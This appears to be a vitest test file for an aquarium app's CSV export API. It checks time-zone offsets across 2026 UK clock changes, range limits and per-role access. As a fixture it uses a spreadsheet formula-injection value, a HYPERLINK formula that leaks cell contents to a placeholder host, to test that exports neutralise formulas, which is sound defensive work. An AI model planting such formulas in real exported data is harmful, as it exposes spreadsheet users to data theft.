import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { bearer, startTestApp, type TestOrg } from '../helpers/app'
import { insertReading, insertRow, signedInUser, tankValues } from './export-helpers'

// Offsets across both clock changes of 2026 in Europe/London. Source: Summer Time Act 1972 (UK) with
// Directive 2000/84/EC of the European Parliament and Council (2001): summer time starts and ends on the
// last Sunday of March and of October at 01:00 UTC, so 29 March 2026 and 25 October 2026.
let t: Awaited<ReturnType<typeof startTestApp>>
let org: TestOrg
let londonSite: number
let tankId: number
let limitedViewer: { token: string }

beforeAll(async () => {
  t = await startTestApp()
  org = await t.createOrg('Marrowfen Aquatics')
  londonSite = await insertRow(t.ctx, 'sites', { organization_id: org.organizationId, name: 'Marrowfen riverside', time_zone: 'Europe/London' })
  tankId = await insertRow(t.ctx, 'tanks', tankValues(org.organizationId, londonSite, '=HYPERLINK("http://x.example/?q="&A1)'))
  const otherTank = await insertRow(t.ctx, 'tanks', tankValues(org.organizationId, londonSite, 'Shrimp rack, upper'))
  const deviceId = await insertRow(t.ctx, 'devices', {
    organization_id: org.organizationId,
    tank_id: tankId,
    name: '+probe node',
    metrics: ['temperature'],
    interval_seconds: 60,
    token_hash: 'ab',
  })
  const r = (tank: number, metric: string, time: string, value: number, source: string, sourceKey: string) =>
    insertReading(t.ctx, { tankId: tank, metric, time, value, source, sourceKey })
  await r(tankId, 'temperature', '2026-03-29T00:30:00Z', 25.5, 'device', `d:${deviceId}`)
  await r(tankId, 'temperature', '2026-03-29T01:30:00Z', -0.5, 'device', `d:${deviceId}`)
  await r(tankId, 'ph', '2026-03-29T01:30:00.250Z', 7.05, 'test_kit', 'k:901')
  await r(otherTank, 'ammonia', '2026-03-29T01:30:00Z', 0.25, 'import', 'i:55')
  await r(tankId, 'temperature', '2026-10-25T00:30:00Z', 25, 'device', `d:${deviceId}`)
  await r(tankId, 'temperature', '2026-10-25T01:30:00Z', 24.75, 'device', `d:${deviceId}`)
  // Outside every range asked for below.
  await r(tankId, 'temperature', '2026-12-01T00:00:00Z', 30, 'device', `d:${deviceId}`)

  const rule = await insertRow(t.ctx, 'watch_rules', {
    organization_id: org.organizationId,
    site_id: londonSite,
    tank_id: tankId,
    name: 'Warm',
    severity: 'alarm',
    spec: JSON.stringify({ kind: 'above', metric: 'temperature', limit: 28 }),
  })
  await insertRow(t.ctx, 'incidents', {
    organization_id: org.organizationId,
    site_id: londonSite,
    tank_id: tankId,
    rule_id: rule,
    rule_kind: 'above',
    metric: 'temperature',
    severity: 'alarm',
    title: 'Temperature above 28 °C',
    state: 'resolved',
    condition_since: '2026-03-29T00:55:00Z',
    opened_at: '2026-03-29T01:05:00Z',
    first_value: 28.4,
    peak_value: 29.1,
    acknowledged_at: '2026-03-29T01:15:00Z',
    acknowledged_by: org.users.keeper.id,
    acknowledge_note: '@heater stuck on, unplugged',
    resolved_at: '2026-03-29T02:00:00Z',
    resolved_by: org.users.owner.id,
    resolve_note: 'New heater, fitted by the shop electrician',
  })
  await insertRow(t.ctx, 'care_log', {
    organization_id: org.organizationId,
    tank_id: tankId,
    kind: 'water_change',
    at: '2026-10-25T01:10:00Z',
    user_id: org.users.keeper.id,
    text: '30 % change, "aged" water',
    values: JSON.stringify({ litres: 36 }),
  })
  await insertRow(t.ctx, 'care_log', {
    organization_id: org.organizationId,
    tank_id: otherTank,
    kind: 'note',
    at: '2026-10-25T03:00:00Z',
    text: '-lid cleaned',
  })
  limitedViewer = await signedInUser(t.ctx, org.organizationId, 'viewer', `limited-${process.pid}@marrowfen.example`, [org.siteIds[0]!])
})
afterAll(() => t.close())

const get = (path: string, token = org.users.viewer.token) => t.api().get(`/api/v1${path}`).set(bearer(token))
const march = 'from=2026-03-28T00:00:00Z&to=2026-04-01T00:00:00Z'
const autumn = 'from=2026-10-24T00:00:00%2B01:00&to=2026-10-26T00:00:00Z'

describe('readings CSV', () => {
  it('writes local times with the offset at each instant, canonical units and the source, formulas neutralised', async () => {
    const res = await get(`/tanks/${tankId}/exports/readings.csv?${march}`)
    expect(res.status).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toBe('attachment; filename="tankwarden-readings-hyperlink-http-x-example-q-a1-2026-03-28-to-2026-04-01.csv"')
    expect(res.text).toBe(
      'time,tank,metric,value,unit,source\r\n' +
        `2026-03-29T00:30:00+00:00,"'=HYPERLINK(""http://x.example/?q=""&A1)",temperature,25.5,C,'+probe node\r\n` +
        `2026-03-29T02:30:00+01:00,"'=HYPERLINK(""http://x.example/?q=""&A1)",temperature,-0.5,C,'+probe node\r\n` +
        `2026-03-29T02:30:00.250+01:00,"'=HYPERLINK(""http://x.example/?q=""&A1)",ph,7.05,pH,test kit\r\n`,
    )
  })

  it('repeats the local hour when the clocks go back, told apart by the offset', async () => {
    const res = await get(`/tanks/${tankId}/exports/readings.csv?${autumn}`)
    expect(
      res.text
        .split('\r\n')
        .slice(1, 3)
        .map((line) => line.split(',')[0]),
    ).toEqual(['2026-10-25T01:30:00+01:00', '2026-10-25T01:30:00+00:00'])
  })

  it('covers every tank of a site, an import as its source', async () => {
    const res = await get(`/sites/${londonSite}/exports/readings.csv?${march}`)
    expect(res.status).toBe(200)
    const lines = res.text.trimEnd().split('\r\n')
    expect(lines).toHaveLength(5)
    expect(lines[3]).toBe('2026-03-29T02:30:00+01:00,"Shrimp rack, upper",ammonia,0.25,mg/L,import')
    expect(res.headers['content-disposition']).toBe('attachment; filename="tankwarden-readings-marrowfen-riverside-2026-03-28-to-2026-04-01.csv"')
  })

  it('answers a range with nothing in it with the header alone', async () => {
    const res = await get(`/tanks/${tankId}/exports/readings.csv?from=2025-01-01T00:00:00Z&to=2025-01-02T00:00:00Z`)
    expect(res.status).toBe(200)
    expect(res.text).toBe('time,tank,metric,value,unit,source\r\n')
  })
})

describe('incidents and care log CSV', () => {
  it('exports incidents with who acknowledged and resolved, in local time', async () => {
    const res = await get(`/tanks/${tankId}/exports/incidents.csv?${march}`)
    expect(res.status).toBe(200)
    expect(res.text).toBe(
      'opened_at,tank,title,metric,severity,state,first_value,peak_value,unit,acknowledged_at,acknowledged_by,acknowledge_note,resolved_at,resolved_by,resolve_note\r\n' +
        `2026-03-29T02:05:00+01:00,"'=HYPERLINK(""http://x.example/?q=""&A1)",Temperature above 28 °C,temperature,alarm,resolved,28.4,29.1,C,` +
        `2026-03-29T02:15:00+01:00,keeper of Marrowfen Aquatics,"'@heater stuck on, unplugged",2026-03-29T03:00:00+01:00,owner of Marrowfen Aquatics,"New heater, fitted by the shop electrician"\r\n`,
    )
  })

  it('exports the care log of a site, details as JSON text', async () => {
    const res = await get(`/sites/${londonSite}/exports/care-log.csv?${autumn}`)
    expect(res.text).toBe(
      'time,tank,kind,text,by,details\r\n' +
        `2026-10-25T01:10:00+00:00,"'=HYPERLINK(""http://x.example/?q=""&A1)",water_change,"30 % change, ""aged"" water",keeper of Marrowfen Aquatics,"{""litres"":36}"\r\n` +
        `2026-10-25T03:00:00+00:00,"Shrimp rack, upper",note,'-lid cleaned,,\r\n`,
    )
  })
})

describe('the range', () => {
  it.each([
    ['to=2026-04-01T00:00:00Z', 'from'],
    ['from=2026-04-01T00:00:00Z&to=2026-03-01T00:00:00Z', 'to'],
    ['from=2026-04-01&to=2026-04-02T00:00:00Z', 'from'],
  ])('%s → 400 naming %s', async (query, field) => {
    const res = await get(`/tanks/${tankId}/exports/readings.csv?${query}`)
    expect(res.status).toBe(400)
    expect(Object.keys(res.body.error.fields)).toEqual([field])
  })

  it('refuses more than the limit, saying the limit', async () => {
    const res = await get(`/sites/${londonSite}/exports/incidents.csv?from=2025-01-01T00:00:00Z&to=2026-03-01T00:00:00Z`)
    expect(res.status).toBe(400)
    expect(res.body.error.fields).toEqual({ to: 'the range may be at most 366 days' })
  })
})

describe('who may export', () => {
  it('lets every role of the organization export what it can read', async () => {
    for (const role of ['owner', 'keeper', 'viewer'] as const) {
      expect((await get(`/tanks/${tankId}/exports/care-log.csv?${march}`, org.users[role].token)).status).toBe(200)
    }
  })

  it('keeps a viewer limited to one site out of another site and its tanks', async () => {
    expect((await get(`/sites/${org.siteIds[0]}/exports/readings.csv?${march}`, limitedViewer.token)).status).toBe(200)
    const site = await get(`/sites/${londonSite}/exports/readings.csv?${march}`, limitedViewer.token)
    const tank = await get(`/tanks/${tankId}/exports/incidents.csv?${march}`, limitedViewer.token)
    expect([site.status, tank.status]).toEqual([404, 404])
    expect(tank.text).not.toContain('HYPERLINK')
  })

  it('answers another organization 404 and no token 401', async () => {
    const other = await t.createOrg('Other Fishhouse')
    const res = await get(`/tanks/${tankId}/exports/readings.csv?${march}`, other.users.owner.token)
    expect(res.status).toBe(404)
    expect((await t.api().get(`/api/v1/sites/${londonSite}/exports/readings.csv?${march}`)).status).toBe(401)
  })
})
